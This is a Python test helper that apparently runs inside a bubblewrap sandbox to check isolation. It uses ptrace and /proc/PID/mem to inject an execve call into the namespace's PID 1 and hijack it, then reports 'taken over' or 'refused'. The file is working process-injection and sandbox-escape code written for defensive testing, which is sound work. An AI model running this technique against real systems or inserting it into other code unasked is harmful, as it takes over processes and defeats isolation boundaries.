"""Run inside an isolated sandbox by tests/test_isolation_escape.py (x86-64): take over
the namespace's PID 1 (bubblewrap's init, which bwrap leaves dumpable under the sandbox's
own uid) with ptrace and make it exec ``argv[1:]``: the sandbox's code, running as PID 1.
Prints ``taken over`` or ``refused <errno>``."""

import ctypes
import os
import struct
import sys

ATTACH, DETACH, GETREGS, SETREGS = 16, 17, 12, 13
EXECVE = 59
# struct user_regs_struct (x86-64), by index
RAX, ORIG_RAX, RDX, RSI, RDI, RIP, RSP = 10, 15, 12, 13, 14, 16, 19

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def syscall_instruction(pid: int) -> int:
    """An address of a ``syscall`` instruction in ``pid``'s executable mappings."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if "x" in perms:
                start, end = (int(x, 16) for x in span.split("-"))
                mem.seek(start)
                at = mem.read(end - start).find(b"\x0f\x05")
                if at >= 0:
                    return start + at
    raise SystemExit("no syscall instruction found")


def main() -> None:
    pid = 1
    if libc.ptrace(ATTACH, pid, None, None) != 0:
        print("refused", ctypes.get_errno())
        return
    os.waitpid(pid, 0)
    regs = (ctypes.c_ulonglong * 27)()
    assert libc.ptrace(GETREGS, pid, None, ctypes.byref(regs)) == 0
    # The strings and the argv array, on PID 1's stack well below what it uses.
    base = regs[RSP] - 4096
    strings, offsets = b"", []
    for arg in sys.argv[1:]:
        offsets.append(len(strings))
        strings += arg.encode() + b"\0"
    strings += b"\0" * (-len(strings) % 8)
    table = b"".join(struct.pack("<Q", base + o) for o in [*offsets]) + struct.pack("<Q", 0)
    with open(f"/proc/{pid}/mem", "wb", buffering=0) as mem:
        mem.seek(base)
        mem.write(strings + table)
    regs[RAX] = regs[ORIG_RAX] = EXECVE
    regs[RDI], regs[RSI], regs[RDX] = base, base + len(strings), 0
    regs[RIP], regs[RSP] = syscall_instruction(pid), base - 256
    assert libc.ptrace(SETREGS, pid, None, ctypes.byref(regs)) == 0
    assert libc.ptrace(DETACH, pid, None, None) == 0
    print("taken over")


main()
